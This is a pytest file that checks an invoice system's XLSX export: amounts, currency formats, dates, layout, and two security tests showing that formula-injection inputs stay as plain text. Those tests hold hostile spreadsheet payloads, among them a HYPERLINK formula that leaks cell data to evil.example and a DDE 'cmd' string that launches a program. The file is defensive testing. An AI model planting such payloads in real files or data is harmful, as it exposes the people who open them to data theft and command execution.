"""The XLSX rendering, read back with openpyxl: real numbers equal to the Document, inert text, readable."""

import io
import zipfile
from datetime import datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from invoices.document.model import Document, RenderOptions
from invoices.document.validation import read_request
from invoices.renderers.xlsx import CONTENT_TYPE, TABLE_HEADER, render_xlsx
from tests.payloads import sample_payload, without_totals

FORMULA_PAYLOADS = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")']


def render(payload: dict[str, Any]) -> tuple[Document, Worksheet, bytes]:
    options, document = read_request(payload)
    content = render_xlsx(document, options).content
    return document, openpyxl.load_workbook(io.BytesIO(content)).active, content


def number(cell: Cell) -> Decimal:
    """The cell's number as Decimal; repr() of a float is the shortest text that reads back as it."""
    assert cell.data_type == "n"
    assert isinstance(cell.value, int | float)
    return Decimal(repr(cell.value))


def find(sheet: Worksheet, text: str) -> Cell:
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value == text:
                return cell
    raise AssertionError(f"{text!r} not in the sheet")


@pytest.fixture(scope="module")
def sample() -> tuple[Document, Worksheet, bytes]:
    return render(sample_payload())


def test_rendered_file(sample_document):
    rendered = render_xlsx(sample_document, RenderOptions(format="xlsx"))
    assert rendered.filename == "INV-2026-0042.xlsx"
    assert rendered.content_type == CONTENT_TYPE
    assert zipfile.is_zipfile(io.BytesIO(rendered.content))


def test_line_table_holds_the_documents_numbers(sample):
    document, sheet, _ = sample
    header = find(sheet, "SKU").row
    assert [sheet.cell(header, column).value for column in range(1, 9)] == list(TABLE_HEADER)
    for row, amount in enumerate(document.lines, start=header + 1):
        line = amount.line
        assert sheet.cell(row, 1).value == line.sku
        assert sheet.cell(row, 2).value == line.description
        assert number(sheet.cell(row, 3)) == line.quantity
        assert number(sheet.cell(row, 5)) == line.unit_price
        assert number(sheet.cell(row, 6)) == line.discount_percent
        assert number(sheet.cell(row, 7)) == line.tax_rate
        assert number(sheet.cell(row, 8)) == amount.net
    shipping = find(sheet, "Shipping")
    assert number(sheet.cell(shipping.row, 8)) == document.data.charges[0].amount


def test_tax_breakdown_and_totals_are_the_documents(sample):
    document, sheet, _ = sample
    first = find(sheet, "Tax breakdown").row + 1
    for row, group in enumerate(document.totals.tax_groups, start=first):
        assert [number(sheet.cell(row, column)) for column in (6, 7, 8)] == [
            group.rate,
            group.base,
            group.tax,
        ]
    totals = document.totals
    for label, expected in [
        ("Lines net", totals.lines_net),
        ("Charges", totals.charges),
        ("Net total", totals.net),
        ("Tax total", totals.tax),
        ("Total (EUR)", totals.gross),
    ]:
        assert number(sheet.cell(find(sheet, label).row, 8)) == expected


def test_money_cells_use_the_currency_format(sample):
    _, sheet, _ = sample
    assert sheet.cell(find(sheet, "Total (EUR)").row, 8).number_format == "#,##0.00"


@pytest.mark.parametrize(
    ("currency", "expected"), [("JPY", "#,##0"), ("KWD", "#,##0.000"), ("CLF", "#,##0.0000")]
)
def test_number_format_follows_the_currencys_minor_units(currency, expected):
    document, sheet, _ = render(without_totals(currency=currency))
    total = sheet.cell(find(sheet, f"Total ({currency})").row, 8)
    assert total.number_format == expected
    assert number(total) == document.totals.gross


def test_large_amounts_survive_the_spreadsheet_exactly():
    line = {"description": "x", "quantity": "1", "unit_price": "999999999999.99"}
    document, sheet, _ = render(without_totals(lines=[line], shipping=None))
    assert (
        number(sheet.cell(find(sheet, "Total (EUR)").row, 8))
        == document.totals.gross
        == Decimal("999999999999.99")
    )


def test_dates_are_real_dates(sample):
    _, sheet, _ = sample
    issue = sheet.cell(find(sheet, "Issue date").row, 2)
    assert issue.value == datetime(2026, 11, 23)
    assert issue.number_format == "yyyy-mm-dd"


def test_header_is_bold_frozen_and_printed_on_every_page(sample):
    _, sheet, _ = sample
    header = find(sheet, "SKU")
    assert all(sheet.cell(header.row, column).font.b for column in range(1, 9))
    assert sheet.freeze_panes == f"A{header.row + 1}"
    assert sheet.print_title_rows == f"${header.row}:${header.row}"
    assert sheet.column_dimensions["B"].width >= 40


def test_parties_notes_and_payment_are_shown(sample):
    _, sheet, _ = sample
    for text in [
        "Nuage Informatique SAS",
        "Müller & Söhne GmbH",
        "Müller & Söhne Lager",
        "Tax ID: DE136695976",
        "Please quote the invoice number with your payment.",
        "FR7630006000011234567890189",  # stored compact; only the PDF groups it in fours for reading
        "Net 30",
    ]:
        find(sheet, text)


@pytest.mark.parametrize(("page_size", "paper"), [("A4", 9), ("letter", 1)])
def test_page_size_sets_the_paper(sample_document, page_size, paper):
    content = render_xlsx(sample_document, RenderOptions(format="xlsx", page_size=page_size)).content
    assert openpyxl.load_workbook(io.BytesIO(content)).active.page_setup.paperSize == paper


def formula_payload() -> dict[str, Any]:
    payload = without_totals(number="=1+1", notes="\n".join(FORMULA_PAYLOADS), payment_terms="@terms")
    payload["invoice"]["seller"]["name"] = "=cmd|' /C calc'!A0"
    for line, text in zip(payload["invoice"]["lines"], FORMULA_PAYLOADS, strict=False):
        line.update(sku=text[:64], description=text, unit="+1")
    return payload


@pytest.mark.security
def test_formula_payloads_stay_inert_text():
    _, sheet, content = render(formula_payload())
    risky = [
        cell
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@"
    ]
    assert {cell.value for cell in risky} >= {*FORMULA_PAYLOADS, "=1+1", "+1", "@terms", "=cmd|' /C calc'!A0"}
    for cell in risky:
        assert cell.data_type == "s", cell.coordinate
        assert cell.quotePrefix, cell.coordinate  # Excel keeps it text even when the cell is edited
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)
                assert b"<f " not in archive.read(name)


@pytest.mark.security
def test_error_lookalikes_stay_text():
    _, sheet, _ = render(without_totals(notes="#N/A"))
    assert find(sheet, "#N/A").data_type == "s"


def test_a_thousand_lines_render():
    line = {"description": "x", "quantity": "1", "unit_price": "1.10", "tax_rate": "20"}
    document, sheet, _ = render(without_totals(lines=[line] * 1000))
    assert number(sheet.cell(find(sheet, "Total (EUR)").row, 8)) == document.totals.gross
